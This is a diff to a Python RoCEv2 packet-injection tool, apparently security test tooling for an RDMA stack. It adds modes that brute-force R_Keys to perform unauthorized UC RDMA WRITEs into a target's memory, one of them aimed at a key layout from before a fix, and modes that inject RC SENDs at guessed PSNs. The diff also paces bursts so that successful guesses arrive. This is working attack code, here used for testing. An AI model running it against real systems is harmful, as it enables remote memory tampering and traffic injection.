@@ -9,6 +9,13 @@ KIND is one of
   bad-opcode a reserved BTH opcode with a correct ICRC
   uc-send:QPN  UC SEND-only packets of 64 bytes (0x41) to QP QPN, PSN 0, 1, 2, ... (UC takes a
              first/only packet at any PSN: an injection needs only the QPN)
+  uc-write:QPN:VA:LAYOUT
+             UC RDMA WRITE-only packets of 64 bytes to QP QPN at address VA, the i-th (from 0)
+             guessing R_Key i << 8 (LAYOUT old: the key layout before issue 32's fix, table index
+             << 8) or i (LAYOUT all: every key byte of index 0, then of index 1, ...); its payload
+             is i + 1 (big endian, 8 times), so the target tells which guess hit
+  rc-send:QPN  RC SEND-only packets of 64 bytes (0x42) to QP QPN at pseudo-random PSNs (a guess
+             each; seeded, so a run repeats)
 
 IPv6 goes through a normal UDP socket (every field the ICRC covers is known in advance);
 IPv4 through a raw socket with our own IP header, since the kernel picks the IPv4 ID, which the
@@ -16,13 +23,16 @@ ICRC covers. The ICRC code checks itself first against rdma_rxe captures (tests/
 """
 import glob
 import os
+import random
 import socket
 import struct
 import sys
+import time
 import zlib
 
 PORT = 4791
 SPORT = 49152
+PSN_GUESS = random.Random(0x32)   # rc-send's guesses
 
 
 def icrc(ip: bytes, udp: bytes, ib: bytes) -> bytes:
@@ -80,6 +90,16 @@ def ib_packet(kind: str, seq: int) -> bytes:
     if kind.startswith("uc-send:"):
         qpn = int(kind.split(":", 1)[1], 0)
         return struct.pack(">BBHII", 0x24, 0, 0xFFFF, qpn, seq & 0xFFFFFF) + b"\x41" * 64  # UC SEND_ONLY
+    if kind.startswith("uc-write:"):
+        _, qpn, va, layout = kind.split(":")
+        rkey = seq << 8 if layout == "old" else seq
+        reth = struct.pack(">QII", int(va, 0), rkey & 0xFFFF_FFFF, 64)
+        # UC RDMA_WRITE_ONLY, PSN = the guess number (UC takes an only packet at any PSN).
+        return struct.pack(">BBHII", 0x2A, 0, 0xFFFF, int(qpn, 0), seq & 0xFFFFFF) + reth \
+            + struct.pack(">Q", seq + 1) * 8
+    if kind.startswith("rc-send:"):
+        qpn = int(kind.split(":", 1)[1], 0)
+        return struct.pack(">BBHII", 0x04, 0, 0xFFFF, qpn, PSN_GUESS.getrandbits(24)) + b"\x42" * 64  # RC SEND_ONLY
     opcode = 0x04 if kind != "bad-opcode" else 0x1F   # RC SEND_ONLY / reserved RC opcode
     payload = struct.pack(">I", seq)
     bth = struct.pack(">BBHII", opcode, 0, 0xFFFF, 0x11, seq & 0xFFFFFF)  # pad 0, TVer 0
@@ -106,7 +126,8 @@ def main() -> int:
 
 
 def send(src: str, dst: str, count: int, kind: str) -> None:
-    if kind not in ("valid", "bad-icrc", "short", "bad-opcode") and not kind.startswith("uc-send:"):
+    if kind not in ("valid", "bad-icrc", "short", "bad-opcode") and not kind.startswith(("uc-send:", "rc-send:")) \
+            and not (kind.startswith("uc-write:") and len(kind.split(":")) == 4 and kind.endswith((":old", ":all"))):
         sys.exit(f"roce_inject: unknown kind {kind}")
     v6 = ":" in dst
     if v6:
@@ -125,7 +146,7 @@ def send(src: str, dst: str, count: int, kind: str) -> None:
                 ip = struct.pack(">IHBB", 6 << 28, ulen, 17, 64) + socket.inet_pton(socket.AF_INET6, src) \
                     + socket.inet_pton(socket.AF_INET6, dst)
             else:
-                ip = bytearray(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + ulen, 0x1000 + i, 0x4000, 64, 17, 0,
+                ip = bytearray(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + ulen, (0x1000 + i) & 0xFFFF, 0x4000, 64, 17, 0,
                                            socket.inet_aton(src), socket.inet_aton(dst)))
                 ip[10:12] = struct.pack(">H", checksum(bytes(ip)))
                 ip = bytes(ip)
@@ -137,10 +158,14 @@ def send(src: str, dst: str, count: int, kind: str) -> None:
             s.sendto(body, (dst, PORT))
         else:
             udp = struct.pack(">HHHH", SPORT, PORT, 8 + len(body), 0)
-            ip = bytearray(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 0x1000 + i, 0x4000, 64, 17, 0,
+            ip = bytearray(struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(body), (0x1000 + i) & 0xFFFF, 0x4000, 64, 17, 0,
                                        socket.inet_aton(src), socket.inet_aton(dst)))
             ip[10:12] = struct.pack(">H", checksum(bytes(ip)))
             s.sendto(bytes(ip) + udp + body, (dst, 0))
+        if i % 16 == 15:
+            # Bursts of 16: the receiving veth's backlog must not overflow (a guess that hits
+            # must arrive).
+            time.sleep(0.002)
     s.close()
 
 
